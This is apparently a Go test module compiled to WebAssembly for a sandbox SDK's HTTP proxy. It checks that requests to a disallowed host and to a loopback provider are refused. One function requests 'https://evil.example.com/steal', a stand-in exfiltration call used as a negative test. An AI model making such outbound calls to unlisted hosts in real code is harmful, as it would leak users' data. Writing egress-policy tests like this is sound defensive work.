package main

import ferry "github.com/ferrysync/ferry/sdk-guest/go"

// Requests the proxy must refuse: a host outside allowed_hosts, and (under a manifest that
// does not allow private networks) a provider on loopback.

// get sends req, returning the proxy's refusal (or a non-2xx status) as the run's error.
func get(req ferry.Request) int32 {
	return ferry.RunSync(func(s *ferry.Sync) error {
		resp, err := s.HTTP.Do(req)
		if err != nil {
			return err
		}
		return resp.Err()
	})
}

//go:wasmexport elsewhere
//lint:ignore U1000 exported to the host
func elsewhere() int32 { return get(ferry.Request{URL: "https://evil.example.com/steal"}) }

//go:wasmexport loopback
//lint:ignore U1000 exported to the host
func loopback() int32 { return get(ferry.Request{Path: "/items"}) }
